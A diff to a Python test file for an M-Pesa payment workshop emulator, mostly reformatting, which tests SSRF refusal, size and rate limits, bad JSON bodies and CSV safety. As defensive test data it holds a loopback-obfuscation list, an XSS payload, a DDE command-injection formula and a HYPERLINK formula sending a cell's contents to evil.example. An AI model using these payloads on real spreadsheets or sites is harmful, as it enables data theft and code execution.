@@ -25,8 +25,16 @@ from .conftest import Participant
 
 
 def _callback(cid: str, code: object = 0, desc: str = "ok", pad: int = 0) -> bytes:
-    body = {"Body": {"stkCallback": {"MerchantRequestID": "m", "CheckoutRequestID": cid, "ResultCode": code,
-                                     "ResultDesc": desc + "x" * pad}}}
+    body = {
+        "Body": {
+            "stkCallback": {
+                "MerchantRequestID": "m",
+                "CheckoutRequestID": cid,
+                "ResultCode": code,
+                "ResultDesc": desc + "x" * pad,
+            }
+        }
+    }
     return json.dumps(body).encode()
 
 
@@ -48,8 +56,20 @@ def _no_tracebacks(caplog) -> None:
 
 # ---- item 3: no server that posts to itself, no port scanner -----------------------------------
 
-SELF_HOSTS = ["127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.9.9.9",
-              "0.0.0.0", "0", "[::1]", "[::ffff:127.0.0.1]", "[::]"]
+SELF_HOSTS = [
+    "127.0.0.1",
+    "localhost",
+    "127.1",
+    "2130706433",
+    "0x7f000001",
+    "0177.0.0.1",
+    "127.9.9.9",
+    "0.0.0.0",
+    "0",
+    "[::1]",
+    "[::ffff:127.0.0.1]",
+    "[::]",
+]
 
 
 def test_a_direct_url_at_the_server_itself_is_refused_in_every_spelling(server, people):
@@ -129,8 +149,10 @@ def test_health_checks_are_rate_limited_per_participant(tmp_path):
     listener = Listener(tmp_path / "l.sqlite", name="test-ws-rate").start()
     try:
         p, q = Participant(srv, "p01"), Participant(srv, "p02")
-        offer = {"direct_url": listener.callback_url.replace("localhost", "127.0.0.1"),
-                 "health_url": f"{listener.url}/{listener.path_token}/health".replace("localhost", "127.0.0.1")}
+        offer = {
+            "direct_url": listener.callback_url.replace("localhost", "127.0.0.1"),
+            "health_url": f"{listener.url}/{listener.path_token}/health".replace("localhost", "127.0.0.1"),
+        }
         ways = [_hello(p, offer).json() for _ in range(5)]
         assert [w["delivery"] for w in ways] == ["direct"] * 3 + ["relay"] * 2, ways
         assert "a minute" in ways[-1]["reason"]
@@ -159,8 +181,9 @@ def test_a_direct_url_must_point_at_the_participants_own_address(server, people)
 
 
 def test_the_opt_in_networks_are_read_from_the_environment(tmp_path):
-    limits = WorkshopLimits.from_env({"MPESA_LAB_WORKSHOP_DIRECT_NETWORKS": "10.0.0.0/8",
-                                      "MPESA_LAB_WORKSHOP_HELLO_PER_MINUTE": "4"})
+    limits = WorkshopLimits.from_env(
+        {"MPESA_LAB_WORKSHOP_DIRECT_NETWORKS": "10.0.0.0/8", "MPESA_LAB_WORKSHOP_HELLO_PER_MINUTE": "4"}
+    )
     assert limits.direct_networks == "10.0.0.0/8" and limits.hello_per_minute == 4
     for bad in ("lots", "0", "-5", "inf", "nan"):  # inf overflowed int() into a traceback
         with pytest.raises(RosterError, match="MPESA_LAB_WORKSHOP_MAILBOX_BYTES=.*whole number above 0"):
@@ -171,12 +194,14 @@ def test_the_opt_in_networks_are_read_from_the_environment(tmp_path):
 
 # ---- item 4: memory -----------------------------------------------------------------------------
 
+
 def _raw_post(url: str, head_extra: str, body: bytes, read_timeout: float = 5.0) -> bytes:
     host, port = url.split("//", 1)[1].split("/", 1)[0].split(":")
     path = "/" + url.split("//", 1)[1].split("/", 1)[1]
     with socket.create_connection((host, int(port)), timeout=read_timeout) as sock:
-        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head_extra}\r\n".encode()
-                     + body)
+        sock.sendall(
+            f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head_extra}\r\n".encode() + body
+        )
         answer = b""
         while not answer.endswith(b"}"):
             chunk = sock.recv(4096)
@@ -191,8 +216,11 @@ def test_a_huge_body_is_refused_from_its_content_length_before_it_is_read(server
     p = people["p01"]
     started = time.monotonic()
     # 1 GiB announced, 10 bytes sent: the answer comes at once, nothing waits for the rest
-    answer = _raw_post(server.url + route, f"Authorization: {p.basic['Authorization']}\r\n"
-                       "Content-Length: 1073741824\r\n", b'{"a": "bbb')
+    answer = _raw_post(
+        server.url + route,
+        f"Authorization: {p.basic['Authorization']}\r\nContent-Length: 1073741824\r\n",
+        b'{"a": "bbb',
+    )
     assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
     assert b"at most 16384 bytes" in answer
     assert time.monotonic() - started < 3
@@ -235,12 +263,21 @@ def test_mailboxes_have_a_byte_budget_per_participant_and_per_room(tmp_path):
 def test_distinct_codes_are_capped_and_the_page_data_stays_small(server):
     with httpx.Client(timeout=10) as http:
         for n in range(3000):
-            assert http.post(_inbox(server, "p01"), content=_callback(f"c{n}", code=f"X{n:05d}" * 8)).status_code == 200
+            # 3,000 posts outrun the inbox's own rate limit (200/s after a burst of 2,000) on a
+            # fast machine: wait as the limit asks, as a real sender would, and send again.
+            for _ in range(100):
+                answer = http.post(_inbox(server, "p01"), content=_callback(f"c{n}", code=f"X{n:05d}" * 8))
+                if answer.status_code != 429:
+                    break
+                time.sleep(0.05)
+            assert answer.status_code == 200, answer.text
     desk = server.room.desk("p01")
     results = desk.progress.results.totals()
     assert len(results) <= server.limits.codes_per_participant + 1 and results["other"] >= 2900
     assert sum(results.values()) == 3000
-    room = httpx.get(f"{server.url}/_workshop/api/room", headers={"Authorization": f"Bearer {server.facilitator_token}"})
+    room = httpx.get(
+        f"{server.url}/_workshop/api/room", headers={"Authorization": f"Bearer {server.facilitator_token}"}
+    )
     assert len(room.content) < 60_000, len(room.content)
     assert len(desk.progress.last_error["code"]) <= 40
 
@@ -260,19 +297,38 @@ def test_counters_age_out():
 # ---- item 8: a 4xx with one line, never a 500 -------------------------------------------------------
 
 DEEP = b"[" * 100_000 + b"]" * 100_000
-BAD_BODIES = [DEEP, b'{"a":' * 50_000 + b"1" + b"}" * 50_000, b'{"name": {"x": 1}}', b'{"name": ["a"]}',
-              b'{"name": 12}', b'{"kind": ["busy"]}', b'{"kind": {"a": 1}}', b'{"exercise": {"a": 1}}',
-              b'{"ids": [[1]]}', b'{"ids": {"a": 1}}', b'{"direct_url": {"a": 1}, "health_url": [1]}',
-              b'{"direct_url": 5, "health_url": 5}', b"\xff\xfe", b'"just a string"', b"NaN", b"1e999999",
-              b'{"name": "' + b"\\ud800" + b'"}', b'{"name": "' + b"a" * 20_000 + b'"}']
+BAD_BODIES = [
+    DEEP,
+    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
+    b'{"name": {"x": 1}}',
+    b'{"name": ["a"]}',
+    b'{"name": 12}',
+    b'{"kind": ["busy"]}',
+    b'{"kind": {"a": 1}}',
+    b'{"exercise": {"a": 1}}',
+    b'{"ids": [[1]]}',
+    b'{"ids": {"a": 1}}',
+    b'{"direct_url": {"a": 1}, "health_url": [1]}',
+    b'{"direct_url": 5, "health_url": 5}',
+    b"\xff\xfe",
+    b'"just a string"',
+    b"NaN",
+    b"1e999999",
+    b'{"name": "' + b"\\ud800" + b'"}',
+    b'{"name": "' + b"a" * 20_000 + b'"}',
+]
 
 
 def test_bad_bodies_get_a_4xx_with_one_line_never_a_500(server, people, caplog):
     p = people["p01"]
     facilitator = {"Authorization": f"Bearer {server.facilitator_token}"}
-    routes = [("/_workshop/relay/hello", p.basic), ("/_workshop/relay/ack", p.basic),
-              ("/_workshop/progress", p.basic), ("/_workshop/api/faults", facilitator),
-              ("/_workshop/api/participants", facilitator)]
+    routes = [
+        ("/_workshop/relay/hello", p.basic),
+        ("/_workshop/relay/ack", p.basic),
+        ("/_workshop/progress", p.basic),
+        ("/_workshop/api/faults", facilitator),
+        ("/_workshop/api/participants", facilitator),
+    ]
     before = len(server.room.desks)
     with caplog.at_level(logging.WARNING):
         for route, auth in routes:
@@ -290,14 +346,22 @@ def test_bad_bodies_get_a_4xx_with_one_line_never_a_500(server, people, caplog):
 
 # ---- item 9: files that are safe to open ------------------------------------------------------------
 
+
 def test_credentials_csv_and_cards_are_safe_with_hostile_names(tmp_path):
-    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab",
-             '<img src=x onerror="alert(1)">']
+    names = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        '<img src=x onerror="alert(1)">',
+    ]
     srv = WorkshopServer(tmp_path / "room", participants=len(names), names=names, name="workshop-test-csv").start()
     try:
         facilitator = {"Authorization": f"Bearer {srv.facilitator_token}"}
-        answer = httpx.post(f"{srv.url}/_workshop/api/participants", json={"name": "=cmd|' /C calc'!A0"},
-                            headers=facilitator)
+        answer = httpx.post(
+            f"{srv.url}/_workshop/api/participants", json={"name": "=cmd|' /C calc'!A0"}, headers=facilitator
+        )
         assert answer.status_code == 200
         rows = list(csv.reader(io.StringIO(srv.files["csv"].read_text())))
         for row in rows[1:]:
@@ -312,6 +376,7 @@ def test_credentials_csv_and_cards_are_safe_with_hostile_names(tmp_path):
 
 # ---- item 10: the folder is the owner's only ---------------------------------------------------------
 
+
 def test_the_workshop_folder_is_0700_and_an_old_0755_one_is_fixed(tmp_path):
     folder = tmp_path / "room"
     srv = WorkshopServer(folder, participants=1, name="workshop-test-mode").start()
@@ -325,8 +390,10 @@ def test_the_workshop_folder_is_0700_and_an_old_0755_one_is_fixed(tmp_path):
 
 # ---- issue 18 item 12: the page's last error clears ------------------------------------------------
 
+
 def test_the_last_error_clears_when_the_next_push_succeeds(server, people):
     p = people["p01"]
+
     def last_error():
         return server.summary()["participants"][0]["last_error"]
 
@@ -345,24 +412,35 @@ def test_the_last_error_clears_when_the_next_push_succeeds(server, people):
 
 # ---- the Scope: no outbound request a participant can aim (the push's CallBackURL) ------------------
 
+
 def test_a_push_cannot_aim_its_callbacks_at_another_machine(server, people):
     p = people["p01"]
     for url in ("http://10.255.255.1:22/cb", "https://192.0.2.7/cb", "http://[2001:db8::5]:8080/x"):
         answer = p.push(CallBackURL=url)
         assert answer.status_code == 400, answer.text
-        assert "Invalid CallBackURL" in answer.json()["errorMessage"] and "your own machine" in answer.json()["errorMessage"]
+        assert (
+            "Invalid CallBackURL" in answer.json()["errorMessage"]
+            and "your own machine" in answer.json()["errorMessage"]
+        )
     assert not server.room.desk("p01").state.transactions  # refused before the emulator saw it
     # the inbox (any spelling of the server) and the participant's own machine are fine
     inbox = _inbox(server, "p01")
-    for phone, url in (("254708000101", inbox), ("254708000102", inbox.replace("127.0.0.1", "localhost")),
-                       ("254708000103", "http://127.0.0.1:9/callback")):
+    for phone, url in (
+        ("254708000101", inbox),
+        ("254708000102", inbox.replace("127.0.0.1", "localhost")),
+        ("254708000103", "http://127.0.0.1:9/callback"),
+    ):
         answer = p.push(phone=phone, CallBackURL=url)
         assert answer.status_code == 200, answer.text
 
 
 def test_the_rooms_outcome_counts_age_out(tmp_path):
-    srv = WorkshopServer(tmp_path / "room", participants=1, limits=WorkshopLimits(counter_window_seconds=0.5),
-                         name="workshop-test-window").start()
+    srv = WorkshopServer(
+        tmp_path / "room",
+        participants=1,
+        limits=WorkshopLimits(counter_window_seconds=0.5),
+        name="workshop-test-window",
+    ).start()
     try:
         assert httpx.post(_inbox(srv, "p01"), content=_callback("ws_CO_OLD", code=1032)).status_code == 200
         assert srv.summary()["participants"][0]["results"] == {"1032": 1}
@@ -403,8 +481,10 @@ def test_a_token_loop_keeps_a_bounded_number_of_live_tokens(server, people):
 
 def test_scripted_results_and_lab_bodies_are_bounded_per_participant(server, people):
     p = people["p01"]
-    answers = [p.http.post("/_lab/next-result", json={"code": 1032, "result_desc": "x" * 1000}, headers=p.bearer)
-               for _ in range(server.limits.queued_results + 3)]
+    answers = [
+        p.http.post("/_lab/next-result", json={"code": 1032, "result_desc": "x" * 1000}, headers=p.bearer)
+        for _ in range(server.limits.queued_results + 3)
+    ]
     assert [a.status_code for a in answers].count(200) == server.limits.queued_results, [a.status_code for a in answers]
     assert answers[-1].status_code == 429 and "already waiting" in answers[-1].json()["errorMessage"]
     big = p.http.post("/_lab/next-result", json={"code": 0, "result_desc": "y" * 100_000}, headers=p.bearer)
